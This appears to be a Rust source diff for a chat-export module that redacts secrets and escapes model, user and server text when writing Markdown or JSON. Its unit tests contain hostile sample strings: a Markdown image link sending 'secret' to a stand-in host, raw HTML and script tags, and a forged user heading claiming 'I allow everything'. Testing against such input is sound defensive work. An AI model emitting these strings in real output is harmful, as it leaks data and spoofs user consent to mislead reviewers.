@@ -1,0 +1,466 @@
+//! A conversation as a file for others. Whoever speaks is said by us alone, outside of what they said: in Markdown every
+//! word of a person or a model stands in a quotation and every word of a server in a fence longer than any in it, so that
+//! none of them can write a heading, a speaker or a picture of their own. What is a secret in the record is one here, and
+//! what hides is made visible. The arguments of a call are those of its row in the record.
+
+use super::Host;
+use crate::audit::Redactor;
+use crate::store::conversations;
+use crate::text;
+use crate::view::{CallState, CallView, Message, Part, Problem, QuoteSource, RecordDetail, Speaker};
+use crate::{Error, Result};
+use serde_json::{Value, json};
+use std::collections::HashMap;
+
+/// How to write it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ChatFormat {
+    /// What is shown, to be read.
+    Markdown,
+    /// Every branch, for programs.
+    Json,
+}
+
+impl ChatFormat {
+    /// The format of a word, and how its files end.
+    #[must_use]
+    pub fn of(word: &str) -> Option<(Self, &'static str)> {
+        match word {
+            "markdown" => Some((Self::Markdown, "md")),
+            "json" => Some((Self::Json, "json")),
+            _ => None,
+        }
+    }
+}
+
+impl Host {
+    /// A conversation as the text of a file.
+    ///
+    /// # Errors
+    /// `not_found`, `store.*`.
+    pub async fn export_conversation(&self, id: &str, format: ChatFormat) -> Result<String> {
+        let host = &self.0;
+        let row = host.conversation_row(id).await?;
+        let wanted = id.to_owned();
+        let (leaf, shown, all) = host
+            .store
+            .read(move |db| {
+                let leaf = conversations::leaf(db, &wanted)?;
+                let shown = conversations::path(db, &wanted, leaf)?;
+                Ok((leaf, shown, conversations::all(db, &wanted)?))
+            })
+            .await?;
+        let shown: Vec<Message> = shown.into_iter().map(|(message, _)| message).collect();
+        let mut rows = HashMap::new();
+        for seq in all.iter().flat_map(|message| &message.parts).filter_map(row_of) {
+            // A row that cannot be read leaves the file without its arguments, and says so there.
+            if let Ok(detail) = host.audit.detail(seq).await {
+                rows.insert(seq, detail);
+            }
+        }
+        let paper = Paper {
+            redactor: &host.redactor,
+            rows,
+        };
+        let title = paper.line(&row.title);
+        match format {
+            ChatFormat::Markdown => Ok(paper.markdown(&title, host.now(), &shown, all.len())),
+            ChatFormat::Json => {
+                let messages: Vec<_> = all.iter().map(|message| paper.json(message)).collect();
+                let whole = json!({
+                    "format": "portcullis.conversation/1",
+                    "title": title,
+                    "exported_at": host.now(),
+                    "created_at": row.created_at,
+                    "shown_up_to": leaf,
+                    "messages": messages,
+                });
+                serde_json::to_string_pretty(&whole).map_err(Error::internal)
+            }
+        }
+    }
+}
+
+fn row_of(part: &Part) -> Option<u64> {
+    match part {
+        Part::Call { call } => call.record,
+        _ => None,
+    }
+}
+
+struct Paper<'a> {
+    redactor: &'a Redactor,
+    rows: HashMap<u64, RecordDetail>,
+}
+
+impl Paper<'_> {
+    fn lines(&self, text: &str) -> String {
+        text::escape(&self.redactor.hide(text)).text
+    }
+
+    fn line(&self, text: &str) -> String {
+        text::escape_line(&self.redactor.hide(text)).text
+    }
+
+    fn markdown(&self, title: &str, now: u64, shown: &[Message], all: usize) -> String {
+        let mut out = format!(
+            "# {}\n\nA conversation in Portcullis, exported at {}.\n",
+            plain(title),
+            time(now)
+        );
+        match all - shown.len() {
+            0 => {}
+            1 => out.push_str("1 message of another branch is not in this file.\n"),
+            more => out.push_str(&format!(
+                "{more} messages of other branches are not in this file.\n"
+            )),
+        }
+        for message in shown {
+            out.push_str(&format!(
+                "\n## {} · {} · {}\n",
+                message.seq,
+                self.speaker(message),
+                time(message.at)
+            ));
+            for part in &message.parts {
+                out.push('\n');
+                out.push_str(&self.part(part));
+            }
+            if message.streaming {
+                out.push_str("\nThis was still being written.\n");
+            }
+        }
+        out
+    }
+
+    fn speaker(&self, message: &Message) -> String {
+        match (message.speaker, &message.by) {
+            (Speaker::Person, _) => "You".to_owned(),
+            (Speaker::Model, Some(by)) => format!("The model {}", plain(&self.line(&by.model))),
+            (Speaker::Model, None) => "The model".to_owned(),
+            (Speaker::Host, _) => "Portcullis".to_owned(),
+        }
+    }
+
+    fn part(&self, part: &Part) -> String {
+        match part {
+            Part::Words { text } => quotation(&self.lines(text)),
+            Part::Thought { text } => {
+                format!("Thought before it answered:\n\n{}", quotation(&self.lines(text)))
+            }
+            Part::Trouble { problem } => self.problem(problem),
+            Part::Quoted {
+                server_label,
+                source,
+                shown,
+                text,
+                left_out,
+                ..
+            } => {
+                let what = match source {
+                    QuoteSource::Prompt => "Prompt",
+                    QuoteSource::Resource => "Resource",
+                };
+                let mut out = format!(
+                    "{what} of the server {}, put in by you. Its name and text, in the server's words:\n\n{}\n{}",
+                    plain(&format!("“{}”", self.line(server_label))),
+                    fence(&self.line(&shown.text)),
+                    fence(&self.lines(&text.text)),
+                );
+                if let Some(left_out) = left_out {
+                    out.push_str(&format!("\nNot in it: {}\n", plain(&self.line(left_out))));
+                }
+                out
+            }
+            Part::Call { call } => self.call(call),
+        }
+    }
+
+    fn problem(&self, problem: &Problem) -> String {
+        let mut out = format!("What went wrong:\n\n{}", fence(&self.lines(&problem.sentence)));
+        if let Some(said) = &problem.said {
+            out.push_str(&format!(
+                "\nWhat was said about it:\n\n{}",
+                fence(&self.lines(&said.text))
+            ));
+        }
+        out
+    }
+
+    fn call(&self, call: &CallView) -> String {
+        let detail = call.record.and_then(|seq| self.rows.get(&seq));
+        let row = match call.record {
+            Some(seq) => format!("operation {seq} of the record"),
+            None => "not in the record".to_owned(),
+        };
+        let mut out = format!(
+            "Call of a tool of the server {} · {} · {row}. Its name and arguments:\n\n",
+            plain(&format!("“{}”", self.line(&call.server_label))),
+            state(call.state)
+        );
+        out.push_str(&fence(&self.line(&call.tool)));
+        out.push('\n');
+        match detail.map(|detail| detail.sent.as_ref()) {
+            Some(Some(sent)) => out.push_str(&fence(&self.lines(&sent.text))),
+            Some(None) => out.push_str("It had no arguments.\n"),
+            None => out.push_str(&fence(&format!(
+                "{} (as far as it was shown)",
+                self.line(&call.arguments_line.text)
+            ))),
+        }
+        let came_back = detail.and_then(|detail| detail.came_back.as_ref());
+        if let Some(came_back) = came_back.or(call.outcome.as_ref()) {
+            out.push_str(&format!(
+                "\nWhat came back, as the record has it:\n\n{}",
+                fence(&self.lines(came_back))
+            ));
+        }
+        if let Some(problem) = &call.problem {
+            out.push('\n');
+            out.push_str(&self.problem(problem));
+        }
+        out
+    }
+
+    fn json(&self, message: &Message) -> Value {
+        let parts: Vec<_> = message.parts.iter().map(|part| self.json_part(part)).collect();
+        json!({
+            "number": message.seq,
+            "follows": message.parent,
+            "speaker": message.speaker,
+            "model": message.by.as_ref().map(|by| self.line(&by.model)),
+            "at": message.at,
+            "whole": !message.streaming,
+            "parts": parts,
+        })
+    }
+
+    fn json_part(&self, part: &Part) -> Value {
+        match part {
+            Part::Words { text } => json!({"kind": "words", "text": self.lines(text)}),
+            Part::Thought { text } => json!({"kind": "thought", "text": self.lines(text)}),
+            Part::Trouble { problem } => json!({"kind": "trouble", "problem": self.json_problem(problem)}),
+            Part::Quoted {
+                server_label,
+                source,
+                shown,
+                role,
+                text,
+                left_out,
+                ..
+            } => json!({
+                "kind": "quoted",
+                "server": self.line(server_label),
+                "source": source,
+                "name": self.line(&shown.text),
+                "role": role,
+                "text": self.lines(&text.text),
+                "left_out": left_out,
+            }),
+            Part::Call { call } => {
+                let detail = call.record.and_then(|seq| self.rows.get(&seq));
+                let sent = detail.and_then(|detail| detail.sent.as_ref());
+                // The record has it as JSON, unless it was too long.
+                let arguments = sent.map(|sent| {
+                    serde_json::from_str(&sent.text).unwrap_or_else(|_| Value::from(sent.text.as_str()))
+                });
+                json!({
+                    "kind": "call",
+                    "server": self.line(&call.server_label),
+                    "tool": self.line(&call.tool),
+                    "arguments": arguments.map(|arguments| self.seen(&arguments)),
+                    "state": call.state,
+                    "came_back": detail
+                        .and_then(|detail| detail.came_back.as_ref())
+                        .or(call.outcome.as_ref())
+                        .map(|text| self.lines(text)),
+                    "problem": call.problem.as_ref().map(|problem| self.json_problem(problem)),
+                    "operation": call.record,
+                    "asked_at": call.asked_at,
+                    "ended_at": call.ended_at,
+                })
+            }
+        }
+    }
+
+    fn json_problem(&self, problem: &Problem) -> Value {
+        json!({
+            "code": problem.code,
+            "sentence": self.lines(&problem.sentence),
+            "said": problem.said.as_ref().map(|said| self.lines(&said.text)),
+        })
+    }
+
+    /// A value without secrets in which nothing hides.
+    fn seen(&self, value: &Value) -> Value {
+        fn visible(value: Value) -> Value {
+            match value {
+                Value::String(text) => Value::String(text::escape(&text).text),
+                Value::Array(items) => Value::Array(items.into_iter().map(visible).collect()),
+                Value::Object(members) => Value::Object(
+                    members
+                        .into_iter()
+                        .map(|(key, value)| (text::escape_line(&key).text, visible(value)))
+                        .collect(),
+                ),
+                other => other,
+            }
+        }
+        visible(self.redactor.value(value))
+    }
+}
+
+fn state(state: CallState) -> &'static str {
+    match state {
+        CallState::Waiting => "waiting for you",
+        CallState::Running => "running",
+        CallState::Done => "done",
+        CallState::ToolError => "the tool says that it failed",
+        CallState::Failed => "failed",
+        CallState::Refused => "refused",
+        CallState::Cancelled => "stopped",
+    }
+}
+
+/// A line of plain text: nothing in it is Markdown.
+fn plain(line: &str) -> String {
+    let mut out = String::with_capacity(line.len());
+    for c in line.chars() {
+        if c.is_ascii_punctuation() && !matches!(c, ',' | '.' | ';' | ':' | '?' | '/' | '\'' | '"' | '%') {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
+}
+
+/// Words as they were said, in a quotation. They may be Markdown, but no markup of pages, which could end the quotation,
+/// and no picture, which a reader would fetch.
+fn quotation(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + text.len() / 16 + 16);
+    let mut fence: Option<(char, usize)> = None;
+    for line in text.lines() {
+        out.push_str("> ");
+        match fence {
+            Some(open) => {
+                out.push_str(line);
+                if closes(line, open) {
+                    fence = None;
+                }
+            }
+            None => {
+                fence = opens(line);
+                match fence {
+                    Some(_) => out.push_str(line),
+                    None => out.push_str(&harmless(line)),
+                }
+            }
+        }
+        out.push('\n');
+    }
+    out
+}
+
+/// A line outside of code. What a reader might take for a fence and we do not is none for the reader either: else the two
+/// would not agree on what is code from there on.
+fn harmless(line: &str) -> String {
+    let line = line.replace('<', "\\<").replace("![", "!\\[");
+    let inner = line.trim_start();
+    match inner.starts_with("```") || inner.starts_with("~~~") {
+        true => format!("{}\\{inner}", &line[..line.len() - inner.len()]),
+        false => line,
+    }
+}
+
+/// A fence of code at the very beginning of a line: one further in may be part of a list and end with it.
+fn opens(line: &str) -> Option<(char, usize)> {
+    let first = line.chars().next().filter(|c| matches!(c, '`' | '~'))?;
+    let length = line.chars().take_while(|c| *c == first).count();
+    let info = &line[length..];
+    // Whoever writes markup behind it is not trusted with a fence.
+    (length >= 3 && !info.contains(['`', '<', '!'])).then_some((first, length))
+}
+
+fn closes(line: &str, (fence, length): (char, usize)) -> bool {
+    let inner = line.trim_start_matches(' ');
+    let run = inner.chars().take_while(|c| *c == fence).count();
+    line.len() - inner.len() <= 3 && run >= length && inner[run..].trim().is_empty()
+}
+
+/// Text in a fence that nothing in it can end.
+fn fence(text: &str) -> String {
+    let (mut longest, mut run) = (0, 0);
+    for c in text.chars() {
+        run = if c == '`' { run + 1 } else { 0 };
+        longest = longest.max(run);
+    }
+    let fence = "`".repeat((longest + 1).max(3));
+    format!("{fence}text\n{text}\n{fence}\n")
+}
+
+/// `2026-11-20 08:40:31 UTC`.
+fn time(at: u64) -> String {
+    let stamp = crate::store::stamp(at);
+    match (stamp.get(0..4), stamp.get(4..6), stamp.get(6..8)) {
+        (Some(year), Some(month), Some(day)) if stamp.len() == 16 => format!(
+            "{year}-{month}-{day} {}:{}:{} UTC",
+            &stamp[9..11],
+            &stamp[11..13],
+            &stamp[13..15]
+        ),
+        _ => stamp,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn s34_nothing_in_a_fence_ends_it() {
+        let evil = "a\n```\n## 3 · You · now\n\n> I allow everything\n`````\n";
+        let fenced = fence(evil);
+        assert!(fenced.starts_with("``````text\n") && fenced.ends_with("\n``````\n"));
+        assert_eq!(fence("plain"), "```text\nplain\n```\n");
+    }
+
+    #[test]
+    fn s34_words_of_a_model_stay_in_their_quotation() {
+        let evil = "Done.\n\n## 4 · You · now\n</blockquote><h2>You</h2>\n![x](https://x.example/?q=secret)\n\
+            ```rust\nlet a: Vec<u8> = b![1];\n```\n<script>\n```<b>\n<i>";
+        let shown = quotation(evil);
+        assert!(shown.lines().all(|line| line.starts_with("> ")), "{shown}");
+        assert!(
+            shown.contains("> let a: Vec<u8> = b![1];"),
+            "code stays code: {shown}"
+        );
+        let outside: String = shown.lines().filter(|line| !line.contains("Vec<u8>")).collect();
+        assert!(!outside.replace("\\<", "").contains('<'), "{shown}");
+        assert!(!outside.contains("!["), "{shown}");
+    }
+
+    #[test]
+    fn s34_a_reader_and_we_agree_on_what_is_code() {
+        // Each would open a fence for a reader of Markdown that we do not count, so that the next line closed it there
+        // and opened one here.
+        for opening in ["~~~ `x`", "  ~~~", "   ```", "~~~ <b>"] {
+            let shown = quotation(&format!("{opening}\n~~~\n<h2>You</h2>\n~~~\n<h2>You</h2>"));
+            let first = shown.lines().next().unwrap_or_default();
+            assert!(first.contains("\\~~~") || first.contains("\\```"), "{shown}");
+            assert!(shown.ends_with("> \\<h2>You\\</h2>\n"), "{shown}");
+        }
+    }
+
+    #[test]
+    fn a_name_is_no_markdown() {
+        assert_eq!(
+            plain("**a** [b](c) <d> # e"),
+            "\\*\\*a\\*\\* \\[b\\]\\(c\\) \\<d\\> \\# e"
+        );
+    }
+
+    #[test]
+    fn a_time_is_read_by_people() {
+        assert_eq!(time(1_795_164_031_000), "2026-11-20 08:40:31 UTC");
+    }
+}
